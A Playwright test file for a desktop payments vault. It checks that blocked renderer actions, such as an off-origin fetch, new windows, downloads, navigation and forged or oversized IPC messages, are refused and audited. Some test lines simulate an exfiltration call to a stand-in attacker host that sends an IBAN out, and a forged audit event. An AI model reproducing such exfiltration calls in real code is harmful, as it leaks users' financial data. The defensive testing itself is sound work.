import type { Page } from '@playwright/test';
import { expect, test, type App } from './fixtures.js';

type Door = (message: unknown) => Promise<unknown>;

/** The `desktop.blocked` entries of the vault's log, as reason and target. */
async function auditedRefusals(app: App): Promise<{ reason: string | null; target: string | null }[]> {
  const log = await app.backend.dispatch('audit.log', { action: 'desktop.blocked' });
  if (!log.ok) throw new Error(log.error.message);
  return (log.value as { entries: { reason: string | null; target: string | null }[] }).entries.map(({ reason, target }) => ({ reason, target }));
}

async function clickBlobDownload(page: Page): Promise<void> {
  await page.evaluate(() => {
    const link = document.createElement('a');
    link.href = URL.createObjectURL(new Blob(['DE89370400440532013000'], { type: 'text/plain' }));
    link.download = 'ibans.txt';
    link.id = 'download-bait';
    link.textContent = 'download';
    document.body.prepend(link);
  });
  await page.locator('#download-bait').click();
}

test.describe('when the shell refuses the renderer, the vault’s audit log records it', () => {
  test('a fetch elsewhere, a new window, a navigation away and a download are each a denied desktop.blocked entry', async ({ app }) => {
    const { page } = app;
    await app.unlock();
    await page.evaluate(() => fetch('https://evil.example/steal?iban=DE89', { mode: 'no-cors' }).catch(() => undefined));
    await page.evaluate(() => void window.open('https://evil.example/open'));
    await clickBlobDownload(page);
    await expect.poll(async () => (await auditedRefusals(app)).map((e) => e.reason)).toEqual(expect.arrayContaining(['DESKTOP_CSP_VIOLATION', 'DESKTOP_NEW_WINDOW', 'DESKTOP_DOWNLOAD_REFUSED']));
    // A navigation away reloads the app, which keeps the vault unlocked.
    await page.evaluate(() => (location.href = URL.createObjectURL(new Blob(['<h1>phish</h1>'], { type: 'text/html' }))));
    await expect.poll(async () => (await auditedRefusals(app)).map((e) => e.reason)).toContain('DESKTOP_NAVIGATION_REFUSED');
    const audited = await auditedRefusals(app);
    // Targets are recorded without query or fragment: what the attacker tried to carry out stays out of the log too.
    expect(JSON.stringify(audited)).not.toContain('DE89');
    expect(audited).toContainEqual({ reason: 'DESKTOP_OFF_ORIGIN', target: 'https://evil.example/open' });
  });

  test('refusals while the vault is locked are recorded at the next unlock', async ({ app }) => {
    const { page } = app;
    await page.evaluate(() => void window.open('https://evil.example/while-locked'));
    await expect.poll(() => app.blocked.map((e) => e.reason)).toContain('DESKTOP_NEW_WINDOW');
    await app.unlock();
    // The new window is closed (DESKTOP_NEW_WINDOW) and what it asked for refused (DESKTOP_OFF_ORIGIN), both on record.
    await expect.poll(async () => auditedRefusals(app)).toContainEqual({ reason: 'DESKTOP_OFF_ORIGIN', target: 'https://evil.example/while-locked' });
    expect((await auditedRefusals(app)).map((e) => e.reason)).toContain('DESKTOP_NEW_WINDOW');
  });

  test('an unknown command, a malformed or 1 MiB message, the shell’s own command and a command the role lacks are refused and audited', async ({ app }) => {
    const { page } = app;
    await app.unlock();
    const answers = await page.evaluate(async () => {
      const door = window.coffer as Door;
      return [
        await door({ id: 1, command: 'vault.steal', input: {} }),
        await door({ id: 2, command: 'payments.list', input: {}, extra: 1 }),
        await door({ id: 3, command: 'payments.list', input: { status: 'x'.repeat(1024 * 1024) } }),
        await door({ id: 4, command: 'desktop.blocked', input: { events: [{ kind: 'ipc', target: 'forged', reason: 'DESKTOP_FORGED', at: '2026-01-01T00:00:00.000Z' }] } }),
        // Alice is a maker: verifying the log is the auditor's and the admin's.
        await door({ id: 5, command: 'audit.verify', input: {} }),
      ];
    });
    expect(answers).toMatchObject([
      { ok: false, error: { code: 'DESKTOP_UNKNOWN_COMMAND' } },
      { ok: false, error: { code: 'DESKTOP_BAD_MESSAGE' } },
      { ok: false, error: { code: 'DESKTOP_MESSAGE_TOO_LARGE' } },
      { ok: false, error: { code: 'DESKTOP_UNKNOWN_COMMAND' } },
      { ok: false, error: { code: 'POLICY_DENIED' } },
    ]);
    await expect.poll(async () => (await auditedRefusals(app)).map((e) => `${e.reason} ${e.target}`)).toEqual(
      expect.arrayContaining(['DESKTOP_UNKNOWN_COMMAND vault.steal', 'DESKTOP_BAD_MESSAGE (message)', 'DESKTOP_MESSAGE_TOO_LARGE (message)', 'DESKTOP_UNKNOWN_COMMAND desktop.blocked']),
    );
    expect((await auditedRefusals(app)).map((e) => e.target)).not.toContain('forged');
    const denied = await app.backend.dispatch('audit.log', { action: 'audit.verify', outcome: 'denied' });
    expect(denied).toMatchObject({ ok: true, value: { entries: [expect.objectContaining({ reason: 'POLICY_DENIED', actor: expect.objectContaining({ userId: 'alice' }) })] } });
  });
});
